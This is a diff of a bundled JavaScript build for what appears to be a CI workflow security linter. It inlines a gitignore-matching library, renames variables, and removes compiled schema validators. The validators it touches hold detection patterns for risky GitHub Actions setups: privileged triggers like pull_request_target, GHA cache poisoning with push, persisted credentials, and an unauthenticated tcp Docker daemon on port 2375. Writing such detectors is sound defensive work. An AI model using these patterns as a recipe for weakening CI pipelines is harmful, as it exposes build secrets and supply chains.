+    var replaceTrailingWildcard = (_, p1) => {
+      const prefix = p1 ? `${p1}[^/]+` : "[^/]*";
+      return `${prefix}(?=$|\\/$)`;
+    };
+    var REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/;
+    var replaceTrailingDoublestar = () => "[\\s\\S]";
+    var separatorAfter = (run2, at) => {
+      let separator = EMPTY;
+      for (let index = at + 1; index < run2.length && !run2[index].wildcard; index++) {
+        separator += run2[index].single;
+      }
+      return separator;
+    };
+    var pinWildcards = (source) => {
+      if (source.indexOf(WILDCARD) < 0) {
+        return source;
+      }
+      const tokens = [];
+      const { length } = source;
+      let index = 0;
+      while (index < length) {
+        const char = source[index];
+        if (source.startsWith(WILDCARD, index)) {
+          tokens.push({ wildcard: true });
+          index += WILDCARD.length;
+        } else if (char === "[") {
+          let end = index + 1;
+          if (source[end] === "^") {
+            end++;
+          }
+          if (source[end] === "]") {
+            end++;
+          }
+          while (end < length && source[end] !== "]") {
+            end += source[end] === ESCAPE ? 2 : 1;
+          }
+          end++;
+          tokens.push({ single: source.slice(index, end) });
+          index = end;
+        } else if (char === ESCAPE) {
+          tokens.push({ single: source.slice(index, index + 2) });
+          index += 2;
+        } else if (char === "(") {
+          let depth = 0;
+          let end = index;
+          do {
+            if (source[end] === ESCAPE) {
+              end++;
+            } else if (source[end] === "(") {
+              depth++;
+            } else if (source[end] === ")") {
+              depth--;
+            }
+            end++;
+          } while (end < length && depth > 0);
+          if ("*+?".indexOf(source[end]) >= 0) {
+            end++;
+          }
+          tokens.push({ boundary: source.slice(index, end) });
+          index = end;
+        } else if (char === "^" || char === "$") {
+          tokens.push({ boundary: char });
+          index++;
+        } else {
+          tokens.push({ single: char });
+          index++;
+        }
+      }
+      let out = EMPTY;
+      let run2 = [];
+      const flush = () => {
+        let lastWildcard;
+        run2.forEach((token, at) => {
+          if (token.wildcard) {
+            lastWildcard = at;
+          }
+        });
+        run2.forEach((token, at) => {
+          if (!token.wildcard) {
+            out += token.single;
+            return;
+          }
+          out += at === lastWildcard ? WILDCARD : `(?:(?!${separatorAfter(run2, at)})[^\\/])*`;
+        });
+        run2 = [];
+      };
+      tokens.forEach((token) => {
+        if (token.boundary === void 0) {
+          run2.push(token);
+          return;
+        }
+        flush();
+        out += token.boundary;
+      });
+      flush();
+      return out;
+    };
+    var makeRegexPrefix = (pattern) => {
+      if (REGEX_ANCHORED_GLOBSTAR.test(pattern)) {
+        pattern = "**";
+      }
+      const { source, sources } = extractBrackets(pattern);
+      const replaced = REPLACERS.reduce(
+        // A pass whose matcher finds nothing hands back the very string it was
+        //   given, so asking first costs a search and saves a rewrite. Ten of the
+        //   fifteen passes never fire for a typical .gitignore line, and between
+        //   them they were 45% of this chain.
+        (prev, [matcher, replacer, required]) => {
+          if (matcher === DIRECT) {
+            return replacer(prev, pattern);
+          }
+          if (required !== UNDEFINED && prev.indexOf(required) < 0) {
+            return prev;
+          }
+          return matcher.test(prev) ? prev.replace(matcher, replacer.bind(pattern)) : prev;
+        },
+        source
+      );
+      return sources.length ? replaced.replace(
+        REGEX_RESTORE_PLACEHOLDER,
+        (match, index) => sources[index]
+      ) : replaced;
+    };
+    var checkSourceOf = (body, prefix) => {
+      if (body[body.length - 1] === SLASH) {
+        prefix = makeRegexPrefix(body.slice(0, -1));
+      }
+      const head = prefix.slice(0, -1);
+      const last = prefix[prefix.length - 1];
+      return last === TRAILING_WILDCARD ? `${head}$` : last === TRAILING_DOUBLESTAR ? head : NEVER_MATCH;
+    };
+    var matchesBasename = (body) => {
+      const index = body.indexOf(SLASH);
+      return index < 0 || index === body.length - 1;
+    };
+    var basenameOf = (path) => {
+      const end = path.length - 1;
+      const index = path.lastIndexOf(
+        SLASH,
+        path[end] === SLASH ? end - 1 : end
+      );
+      return index < 0 ? path : path.slice(index + 1);
+    };
+    var parentOf = (path) => {
+      if (path.charCodeAt(0) === SLASH_CODE || path.indexOf(DOUBLE_SLASH) >= 0) {
+        const slices = path.split(SLASH).filter(Boolean);
+        slices.pop();
+        return slices.length ? slices.join(SLASH) + SLASH : EMPTY;
+      }
+      const end = path.length - 1;
+      const cut = path.lastIndexOf(
+        SLASH,
+        path.charCodeAt(end) === SLASH_CODE ? end - 1 : end
+      );
+      return cut < 0 ? EMPTY : path.slice(0, cut + 1);
+    };
+    var isString = (subject) => typeof subject === "string";
+    var checkPattern = (pattern) => pattern && isString(pattern);
+    var splitPattern = (pattern) => (pattern[pattern.length - 1] === "\r" ? pattern.slice(0, -1) : pattern).split(REGEX_SPLITALL_CRLF).filter(Boolean);
+    var IgnoreRule = class {
+      constructor(pattern, mark, body, ignoreCase, negative, prefix) {
+        this.pattern = pattern;
+        this.mark = mark;
+        this.negative = negative;
+        define2(this, "body", body);
+        define2(this, "ignoreCase", ignoreCase);
+        define2(this, "regexPrefix", prefix);
+      }
+      // Worked out on first use and kept behind an own property, the way `regex`
+      //   caches itself in `_regex`. Deciding it in the constructor instead would
+      //   add a fourth `defineProperty` to every rule ever built, which cost 4% of
+      //   every compile -- including the compiles of rules that are never matched
+      //   against anything.
+      get _basenameOnly() {
+        return define2(this, "_basenameOnly", matchesBasename(this.body));
+      }
+      get regex() {
+        const key = UNDERSCORE + MODE_IGNORE;
+        if (this[key]) {
+          return this[key];
+        }
+        return this._make(MODE_IGNORE, key);
+      }
+      get checkRegex() {
+        const key = UNDERSCORE + MODE_CHECK_IGNORE;
+        if (this[key]) {
+          return this[key];
+        }
+        return this._make(MODE_CHECK_IGNORE, key);
+      }
+      _make(mode, key) {
+        const str = pinWildcards(
+          mode === MODE_IGNORE ? this.regexPrefix.replace(REGEX_REPLACE_TRAILING_WILDCARD, replaceTrailingWildcard).replace(REGEX_REPLACE_TRAILING_DOUBLESTAR, replaceTrailingDoublestar) : checkSourceOf(this.body, this.regexPrefix)
+        );
+        const regex = this.ignoreCase ? new RegExp(str, "i") : new RegExp(str);
+        return define2(this, key, regex);
+      }
+    };
+    var hasTrailingBackslash = (str) => {
+      let count2 = 0;
+      while (str[str.length - count2 - 1] === ESCAPE) {
+        count2++;
+      }
+      return count2 % 2 === 1;
+    };
+    var trimEnd = (body, stripLineEnd) => {
+      let lineEnd = body.length;
+      let end;
+      for (; ; ) {
+        if (stripLineEnd && body[lineEnd - 1] === "\r") {
+          lineEnd--;
+        }
+        end = lineEnd;
+        while (body[end - 1] === SPACE) {
+          end--;
+        }
+        if (!stripLineEnd || body[end - 1] !== "\n") {
+          break;
+        }
+        lineEnd = end - 1;
+      }
+      if (end === lineEnd) {
+        return body.slice(0, lineEnd);
+      }
+      let backslashes = 0;
+      while (body[end - backslashes - 1] === ESCAPE) {
+        backslashes++;
+      }
+      return backslashes % 2 ? body.slice(0, end - 1) + SPACE : body.slice(0, end);
+    };
+    var createRule = (pattern, mark, ignoreCase, stripLineEnd, stripBOM) => {
+      let body = stripBOM && pattern[0] === BOM ? pattern.slice(1) : pattern;
+      if (body[0] === "#") {
+        return;
+      }
+      let negative = false;
+      if (body[0] === "!") {
+        negative = true;
+        body = body.slice(1);
+      }
+      const last = body[body.length - 1];
+      if (last === SPACE || stripLineEnd && (last === "\r" || last === "\n")) {
+        body = trimEnd(body, stripLineEnd);
+      }
+      if (!body || hasTrailingBackslash(body)) {
+        return;
+      }
+      body = body.replace(REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION, "!").replace(REGEX_REPLACE_LEADING_EXCAPED_HASH, "#");
+      const regexPrefix = makeRegexPrefix(body);
+      return new IgnoreRule(
+        pattern,
+        mark,
+        body,
+        ignoreCase,
+        negative,
+        regexPrefix
+      );
+    };
+    var RuleManager = class {
+      constructor(ignoreCase) {
+        this._ignoreCase = ignoreCase;
+        this._rules = [];
+        this._basenameCount = 0;
+      }
+      _add(pattern, index) {
+        if (pattern && pattern[KEY_IGNORE]) {
+          this._rules = this._rules.concat(pattern._rules._rules);
+          this._basenameCount += pattern._rules._basenameCount;
+          this._added = true;
+          return;
+        }
+        const isStr = isString(pattern);
+        const raw = isStr ? pattern : pattern.pattern;
+        const rule = checkPattern(raw) && createRule(
+          raw,
+          isStr ? UNDEFINED : pattern.mark,
+          this._ignoreCase,
+          !this._split,
+          this._stripBOM && !index
+        );
+        if (rule) {
+          this._added = true;
+          this._rules.push(rule);
+          if (matchesBasename(rule.body)) {
+            this._basenameCount++;
+          }
+        }
+      }
+      // @param {Array<string> | string | Ignore} pattern
+      add(pattern) {
+        this._added = false;
+        this._split = isString(pattern);
+        this._stripBOM = !this._split || pattern[0] === BOM;
+        makeArray(
+          this._split ? splitPattern(pattern) : pattern
+        ).forEach(this._add, this);
+        if (this._added) {
+          this._literalRules = UNDEFINED;
+        }
+        return this._added;
+      }
+      // Match the literal 'abc/' for `checkIgnore`, last rule wins. Only a rule
+      //   ending in a wildcard can match it (see `checkSourceOf`), so the rest
+      //   are left out once, rather than tested or compiled for every path.
+      testLiteral(path) {
+        const rules = this._literalRules || (this._literalRules = this._rules.filter(
+          ({ body }) => body[body.length - (body[body.length - 1] === SLASH ? 2 : 1)] === "*"
+        ));
+        let ignored = false;
+        let unignored = false;
+        let matchedRule;
+        for (let index = rules.length - 1; index >= 0; index--) {
+          const rule = rules[index];
+          if (rule.checkRegex.test(path)) {
+            ignored = !rule.negative;
+            unignored = rule.negative;
+            matchedRule = rule.negative ? UNDEFINED : rule;
+            break;
+          }
+        }
+        const ret = {
+          ignored,
+          unignored
+        };
+        if (matchedRule) {
+          ret.rule = matchedRule;
+        }
+        return ret;
+      }
+      // Test one single path without recursively checking parent directories
+      //
+      // - mode `string` either `MODE_IGNORE` or `MODE_CHECK_IGNORE`
+      // @returns {TestResult}
+      test(path, mode) {
+        const rules = this._rules;
+        const { length } = rules;
+        const shortcut = this._basenameCount * 2 >= length;
+        const basename4 = shortcut ? basenameOf(path) : path;
+        for (let index = length - 1; index >= 0; index--) {
+          const rule = rules[index];
+          if (rule[mode].test(
+            shortcut && rule._basenameOnly ? basename4 : path
+          )) {
+            const { negative } = rule;
+            const ret = {
+              ignored: !negative,
+              unignored: negative
+            };
+            if (!negative) {
+              ret.rule = rule;
+            }
+            return ret;
+          }
+        }
+        return {
+          ignored: false,
+          unignored: false
+        };
+      }
+    };
+    var throwError = (message, Ctor) => {
+      throw new Ctor(message);
+    };
+    var checkPath = (path, originalPath, doThrow) => {
+      if (!isString(path)) {
+        return doThrow(
+          `path must be a string, but got \`${originalPath}\``,
+          TypeError
+        );
+      }
+      if (!path) {
+        return doThrow(`path must not be empty`, TypeError);
+      }
+      if (checkPath.isNotRelative(path)) {
+        const r = "`path.relative()`d";
+        return doThrow(
+          `path should be a ${r} string, but got "${originalPath}"`,
+          RangeError
+        );
+      }
+      return true;
+    };
+    var isNotRelative = (path) => {
+      const first = path.charCodeAt(0);
+      if (first === SLASH_CODE) {
+        return true;
+      }
+      if (first !== DOT_CODE) {
+        return false;
+      }
+      if (path.length === 1) {
+        return true;
+      }
+      const second = path.charCodeAt(1);
+      if (second === SLASH_CODE) {
+        return true;
+      }
+      if (second !== DOT_CODE) {
+        return false;
+      }
+      return path.length === 2 || path.charCodeAt(2) === SLASH_CODE;
+    };
+    checkPath.isNotRelative = isNotRelative;
+    checkPath.convert = (p) => p;
+    var convertPath = (target) => isString(target) && checkPath.convert(target);
+    var Ignore = class {
+      constructor({
+        ignorecase = true,
+        ignoreCase = ignorecase,
+        allowRelativePaths = false
+      } = {}) {
+        define2(this, KEY_IGNORE, true);
+        this._rules = new RuleManager(ignoreCase);
+        this._strictPathCheck = !allowRelativePaths;
+        this._initCache();
+      }
+      _initCache() {
+        this._ignoreCache = /* @__PURE__ */ Object.create(null);
+        this._testCache = /* @__PURE__ */ Object.create(null);
+      }
+      add(pattern) {
+        if (this._rules.add(pattern)) {
+          this._initCache();
+        }
+        return this;
+      }
+      // legacy
+      addPattern(pattern) {
+        return this.add(pattern);
+      }
+      // @returns {TestResult}
+      _test(originalPath, cache2, path) {
+        checkPath(
+          path,
+          originalPath,
+          this._strictPathCheck ? throwError : RETURN_FALSE
+        );
+        return path ? this._t(path, cache2) : {
+          ignored: false,
+          unignored: false
+        };
+      }
+      checkIgnore(target) {
+        const path = convertPath(target);
+        if (!path || path.charCodeAt(path.length - 1) !== SLASH_CODE) {
+          return this._test(target, this._testCache, path);
+        }
+        const dir = this._t(path, this._testCache);
+        if (dir.ignored) {
+          return dir;
+        }
+        const literal = this._rules.testLiteral(path);
+        return literal.ignored || literal.unignored ? literal : dir;
+      }
+      _t(path, cache2) {
+        const cached2 = cache2[path];
+        if (cached2) {
+          return cached2;
+        }
+        const parentPath = parentOf(path);
+        const parent = parentPath ? this._t(parentPath, cache2) : UNDEFINED;
+        return cache2[path] = parent && parent.ignored ? parent : this._rules.test(path, MODE_IGNORE);
+      }
+      ignores(path) {
+        return this._test(path, this._ignoreCache, convertPath(path)).ignored;
+      }
+      createFilter() {
+        return (path) => !this.ignores(path);
+      }
+      filter(paths) {
+        return makeArray(paths).filter(this.createFilter());
+      }
+      // @returns {TestResult}
+      test(path) {
+        return this._test(path, this._testCache, convertPath(path));
+      }
+    };
+    var factory = (options) => new Ignore(options);
+    var isPathValid = (path) => checkPath(convertPath(path), path, RETURN_FALSE);
+    var setupWindows = () => {
+      const makePosix = (str) => /^\\\\\?\\/.test(str) || /["<>|\u0000-\u001F]+/u.test(str) ? str : str.replace(/\\/g, "/");
+      checkPath.convert = makePosix;
+      const REGEX_TEST_WINDOWS_PATH_ABSOLUTE = /^[a-z]:\//i;
+      checkPath.isNotRelative = (path) => REGEX_TEST_WINDOWS_PATH_ABSOLUTE.test(path) || isNotRelative(path);
+    };
+    if (
+      // Detect `process` so that it can run in browsers.
+      typeof process !== "undefined" && process.platform === "win32"
+    ) {
+      setupWindows();
+    }
+    module.exports = factory;
+    factory.default = factory;
+    module.exports.isPathValid = isPathValid;
+    define2(module.exports, /* @__PURE__ */ Symbol.for("setupWindows"), setupWindows);
+  }
+});
+
 // src/cli.ts
 import { once } from "node:events";
 import { stat as stat3 } from "node:fs/promises";
 
 // src/commands/rule-commands.ts
 import { mkdir, writeFile } from "node:fs/promises";
-import { join as join5 } from "node:path";
+import { join as join4 } from "node:path";
 
 // src/policy/builtin-pack-files.ts
 function builtinPackFiles() {
@@ -22534,9 +22534,9 @@ var Converter = class {
   }
   /** `<<: *a` or `<<: [*a, *b]`: keys not already in the map are added, the first source winning. */
   merge(out, pair) {
-    const resolve8 = (node) => (0, import_yaml.isAlias)(node) ? this.targets.get(node) : node;
-    const value = resolve8(pair.value);
-    for (const source of (0, import_yaml.isSeq)(value) ? value.items.map(resolve8) : [value]) {
+    const resolve7 = (node) => (0, import_yaml.isAlias)(node) ? this.targets.get(node) : node;
+    const value = resolve7(pair.value);
+    for (const source of (0, import_yaml.isSeq)(value) ? value.items.map(resolve7) : [value]) {
       if (!(0, import_yaml.isMap)(source)) {
         const offset = pair.value?.range?.[0] ?? pair.key.range?.[0] ?? 0;
         throw new MergeError(offset, "A YAML merge key `<<` must name a mapping or a list of mappings, so YAML cannot read this file and nothing in it was checked.");
@@ -24237,7 +24237,7 @@ var Matcher = class Matcher2 {
   * @private
   */
   appendReplacementInternalJs(replacement) {
-    const isDigit2 = (c) => c >= 48 && c <= 57;
+    const isDigit = (c) => c >= 48 && c <= 57;
     const groupCount = this.patternGroupCount;
     let res = "";
     let i = 0;
@@ -24259,11 +24259,11 @@ var Matcher = class Matcher2 {
       } else if (c === Codepoint.CODES["'"]) {
         res += this.substring(this.end(0), this.matcherInputLength);
         i += 2;
-      } else if (isDigit2(c)) {
+      } else if (isDigit(c)) {
         let digits = 1;
         let index = c - 48;
         const c2 = replacement.charCodeAt(i + 2);
-        if (isDigit2(c2) && index * 10 + c2 - 48 <= groupCount) {
+        if (isDigit(c2) && index * 10 + c2 - 48 <= groupCount) {
           digits = 2;
           index = index * 10 + c2 - 48;
         }
@@ -24356,7 +24356,7 @@ var Matcher = class Matcher2 {
   * @returns {string} the evaluated string to append
   * @private
   */
-  appendReplacementFunc(replacer2, originalInput) {
+  appendReplacementFunc(replacer, originalInput) {
     let res = "";
     const s = this.start();
     const e = this.end();
@@ -24365,7 +24365,7 @@ var Matcher = class Matcher2 {
     const args = this.matchArray();
     args.push(s, originalInput);
     if (this.hasNamedGroups) args.push(this.namedGroupsObject());
-    res += String(replacer2(...args));
+    res += String(replacer(...args));
     return res;
   }
   /**
@@ -37698,7 +37698,7 @@ function validate89(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate89.evaluated = { "props": { "credentials": true }, "dynamicProps": false, "dynamicItems": false };
 var v70 = validate90;
-var schema103 = { "required": ["triggers"], "properties": { "triggers": { "contains": { "enum": ["pull_request_target", "issue_comment", "workflow_run", "issues", "discussion_comment", "pull_request_review_comment"] } } } };
+var schema103 = { "properties": { "origin": { "enum": ["job-container", "job-service"] } } };
 function validate90(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -37710,365 +37710,10 @@ function validate90(data, { instancePath = "", parentData, parentDataProperty, r
     evaluated0.items = void 0;
   }
   if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.triggers === void 0) {
-      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "triggers" }, message: "must have required property 'triggers'" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-    if (data.triggers !== void 0) {
-      let data0 = data.triggers;
-      if (Array.isArray(data0)) {
-        const _errs1 = errors;
-        const len0 = data0.length;
-        for (let i0 = 0; i0 < len0; i0++) {
-          let data1 = data0[i0];
-          const _errs2 = errors;
-          if (!(data1 === "pull_request_target" || data1 === "issue_comment" || data1 === "workflow_run" || data1 === "issues" || data1 === "discussion_comment" || data1 === "pull_request_review_comment")) {
-            const err1 = { instancePath: instancePath + "/triggers/" + i0, schemaPath: "#/properties/triggers/contains/enum", keyword: "enum", params: { allowedValues: schema103.properties.triggers.contains.enum }, message: "must be equal to one of the allowed values" };
-            if (vErrors === null) {
-              vErrors = [err1];
-            } else {
-              vErrors.push(err1);
-            }
-            errors++;
-          }
-          var valid1 = _errs2 === errors;
-          if (valid1) {
-            break;
-          }
-        }
-        if (!valid1) {
-          const err2 = { instancePath: instancePath + "/triggers", schemaPath: "#/properties/triggers/contains", keyword: "contains", params: { minContains: 1 }, message: "must contain at least 1 valid item(s)" };
-          if (vErrors === null) {
-            vErrors = [err2];
-          } else {
-            vErrors.push(err2);
-          }
-          errors++;
-        } else {
-          errors = _errs1;
-          if (vErrors !== null) {
-            if (_errs1) {
-              vErrors.length = _errs1;
-            } else {
-              vErrors = null;
-            }
-          }
-        }
-      }
-    }
-  }
-  validate90.errors = vErrors;
-  return errors === 0;
-}
-validate90.evaluated = { "props": { "triggers": true }, "dynamicProps": false, "dynamicItems": false };
-var v71 = validate91;
-var pattern58 = func0("^(?i:docker/build-push-action|docker/bake-action)(@|$)", "u");
-var pattern59 = func0("type=gha", "u");
-var pattern60 = func0("^\\s*(?:true|\\$\\{\\{)", "u");
-var pattern61 = func0("--cache-from[= ]\\S*type=gha.*--push|--push.*--cache-from[= ]\\S*type=gha", "u");
-function validate91(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate91.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  const _errs0 = errors;
-  const _errs1 = errors;
-  const _errs2 = errors;
-  let valid1 = false;
-  const _errs3 = errors;
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    let missing0;
-    if (data.uses === void 0 && (missing0 = "uses") || data.with === void 0 && (missing0 = "with")) {
-      const err0 = {};
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    } else {
-      if (data.uses !== void 0) {
-        let data0 = data.uses;
-        const _errs4 = errors;
-        if (typeof data0 === "string") {
-          if (!pattern58.test(data0)) {
-            const err1 = {};
-            if (vErrors === null) {
-              vErrors = [err1];
-            } else {
-              vErrors.push(err1);
-            }
-            errors++;
-          }
-        }
-        var valid2 = _errs4 === errors;
-      } else {
-        var valid2 = true;
-      }
-      if (valid2) {
-        if (data.with !== void 0) {
-          let data1 = data.with;
-          const _errs5 = errors;
-          if (data1 && typeof data1 == "object" && !Array.isArray(data1)) {
-            let missing1;
-            if (data1["cache-from"] === void 0 && (missing1 = "cache-from") || data1.push === void 0 && (missing1 = "push")) {
-              const err2 = {};
-              if (vErrors === null) {
-                vErrors = [err2];
-              } else {
-                vErrors.push(err2);
-              }
-              errors++;
-            } else {
-              if (data1["cache-from"] !== void 0) {
-                let data2 = data1["cache-from"];
-                const _errs6 = errors;
-                if (typeof data2 === "string") {
-                  if (!pattern59.test(data2)) {
-                    const err3 = {};
-                    if (vErrors === null) {
-                      vErrors = [err3];
-                    } else {
-                      vErrors.push(err3);
-                    }
-                    errors++;
-                  }
-                }
-                var valid3 = _errs6 === errors;
-              } else {
-                var valid3 = true;
-              }
-              if (valid3) {
-                if (data1.push !== void 0) {
-                  let data3 = data1.push;
-                  const _errs7 = errors;
-                  if (typeof data3 === "string") {
-                    if (!pattern60.test(data3)) {
-                      const err4 = {};
-                      if (vErrors === null) {
-                        vErrors = [err4];
-                      } else {
-                        vErrors.push(err4);
-                      }
-                      errors++;
-                    }
-                  }
-                  var valid3 = _errs7 === errors;
-                } else {
-                  var valid3 = true;
-                }
-              }
-            }
-          }
-          var valid2 = _errs5 === errors;
-        } else {
-          var valid2 = true;
-        }
-      }
-    }
-  }
-  var _valid0 = _errs3 === errors;
-  valid1 = valid1 || _valid0;
-  if (_valid0) {
-    var props0 = {};
-    props0.uses = true;
-    props0.with = true;
-  }
-  const _errs8 = errors;
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    let missing2;
-    if (data.commands === void 0 && (missing2 = "commands")) {
-      const err5 = {};
-      if (vErrors === null) {
-        vErrors = [err5];
-      } else {
-        vErrors.push(err5);
-      }
-      errors++;
-    } else {
-      if (data.commands !== void 0) {
-        let data4 = data.commands;
-        if (Array.isArray(data4)) {
-          const _errs10 = errors;
-          const len0 = data4.length;
-          for (let i0 = 0; i0 < len0; i0++) {
-            let data5 = data4[i0];
-            const _errs11 = errors;
-            if (typeof data5 === "string") {
-              if (!pattern61.test(data5)) {
-                const err6 = {};
-                if (vErrors === null) {
-                  vErrors = [err6];
-                } else {
-                  vErrors.push(err6);
-                }
-                errors++;
-              }
-            }
-            var valid5 = _errs11 === errors;
-            if (valid5) {
-              break;
-            }
-          }
-          if (!valid5) {
-            const err7 = {};
-            if (vErrors === null) {
-              vErrors = [err7];
-            } else {
-              vErrors.push(err7);
-            }
-            errors++;
-          } else {
-            errors = _errs10;
-            if (vErrors !== null) {
-              if (_errs10) {
-                vErrors.length = _errs10;
-              } else {
-                vErrors = null;
-              }
-            }
-          }
-        }
-      }
-    }
-  }
-  var _valid0 = _errs8 === errors;
-  valid1 = valid1 || _valid0;
-  if (_valid0) {
-    if (props0 !== true) {
-      props0 = props0 || {};
-      props0.commands = true;
-    }
-  }
-  if (!valid1) {
-    const err8 = {};
-    if (vErrors === null) {
-      vErrors = [err8];
-    } else {
-      vErrors.push(err8);
-    }
-    errors++;
-  } else {
-    errors = _errs2;
-    if (vErrors !== null) {
-      if (_errs2) {
-        vErrors.length = _errs2;
-      } else {
-        vErrors = null;
-      }
-    }
-  }
-  var valid0 = _errs1 === errors;
-  if (valid0) {
-    const err9 = { instancePath, schemaPath: "#/not", keyword: "not", params: {}, message: "must NOT be valid" };
-    if (vErrors === null) {
-      vErrors = [err9];
-    } else {
-      vErrors.push(err9);
-    }
-    errors++;
-  } else {
-    errors = _errs0;
-    if (vErrors !== null) {
-      if (_errs0) {
-        vErrors.length = _errs0;
-      } else {
-        vErrors = null;
-      }
-    }
-  }
-  validate91.errors = vErrors;
-  return errors === 0;
-}
-validate91.evaluated = { "dynamicProps": false, "dynamicItems": false };
-var v72 = validate92;
-function validate92(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate92.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.credentialPersisted === void 0) {
-      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "credentialPersisted" }, message: "must have required property 'credentialPersisted'" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-    if (data.buildContexts === void 0) {
-      const err1 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "buildContexts" }, message: "must have required property 'buildContexts'" };
-      if (vErrors === null) {
-        vErrors = [err1];
-      } else {
-        vErrors.push(err1);
-      }
-      errors++;
-    }
-  }
-  validate92.errors = vErrors;
-  return errors === 0;
-}
-validate92.evaluated = { "dynamicProps": false, "dynamicItems": false };
-var v73 = validate93;
-function validate93(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate93.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.gitInBuildContext !== void 0) {
-      const err0 = { instancePath: instancePath + "/gitInBuildContext", schemaPath: "#/properties/gitInBuildContext/false schema", keyword: "false schema", params: {}, message: "boolean schema is false" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-  }
-  validate93.errors = vErrors;
-  return errors === 0;
-}
-validate93.evaluated = { "props": { "gitInBuildContext": true }, "dynamicProps": false, "dynamicItems": false };
-var v74 = validate94;
-var schema107 = { "properties": { "origin": { "enum": ["job-container", "job-service"] } } };
-function validate94(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate94.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
     if (data.origin !== void 0) {
       let data0 = data.origin;
       if (!(data0 === "job-container" || data0 === "job-service")) {
-        const err0 = { instancePath: instancePath + "/origin", schemaPath: "#/properties/origin/enum", keyword: "enum", params: { allowedValues: schema107.properties.origin.enum }, message: "must be equal to one of the allowed values" };
+        const err0 = { instancePath: instancePath + "/origin", schemaPath: "#/properties/origin/enum", keyword: "enum", params: { allowedValues: schema103.properties.origin.enum }, message: "must be equal to one of the allowed values" };
         if (vErrors === null) {
           vErrors = [err0];
         } else {
@@ -38078,17 +37723,17 @@ function validate94(data, { instancePath = "", parentData, parentDataProperty, r
       }
     }
   }
-  validate94.errors = vErrors;
+  validate90.errors = vErrors;
   return errors === 0;
 }
-validate94.evaluated = { "props": { "origin": true }, "dynamicProps": false, "dynamicItems": false };
-var v75 = validate95;
-var pattern62 = func0("^docker/setup-docker-action(@|$)", "u");
-var pattern63 = func0("^tcp://[^\\s/:]*(:2375)?/?$", "u");
-function validate95(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+validate90.evaluated = { "props": { "origin": true }, "dynamicProps": false, "dynamicItems": false };
+var v71 = validate91;
+var pattern58 = func0("^docker/setup-docker-action(@|$)", "u");
+var pattern59 = func0("^tcp://[^\\s/:]*(:2375)?/?$", "u");
+function validate91(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
-  const evaluated0 = validate95.evaluated;
+  const evaluated0 = validate91.evaluated;
   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -38112,7 +37757,7 @@ function validate95(data, { instancePath = "", parentData, parentDataProperty, r
       if (data.uses !== void 0) {
         let data0 = data.uses;
         if (typeof data0 === "string") {
-          if (!pattern62.test(data0)) {
+          if (!pattern58.test(data0)) {
             const err1 = {};
             if (vErrors === null) {
               vErrors = [err1];
@@ -38182,7 +37827,7 @@ function validate95(data, { instancePath = "", parentData, parentDataProperty, r
           const _errs7 = errors;
           const _errs8 = errors;
           if (typeof data4 === "string") {
-            if (!pattern63.test(data4)) {
+            if (!pattern59.test(data4)) {
               const err4 = {};
               if (vErrors === null) {
                 vErrors = [err4];
@@ -38215,17 +37860,17 @@ function validate95(data, { instancePath = "", parentData, parentDataProperty, r
       }
     }
   }
-  validate95.errors = vErrors;
+  validate91.errors = vErrors;
   evaluated0.props = props0;
   return errors === 0;
 }
-validate95.evaluated = { "dynamicProps": true, "dynamicItems": false };
-var v76 = validate96;
-var pattern64 = func0("^docker/build-push-action(@|$)", "u");
-function validate96(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+validate91.evaluated = { "dynamicProps": true, "dynamicItems": false };
+var v72 = validate92;
+var pattern60 = func0("^docker/build-push-action(@|$)", "u");
+function validate92(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
-  const evaluated0 = validate96.evaluated;
+  const evaluated0 = validate92.evaluated;
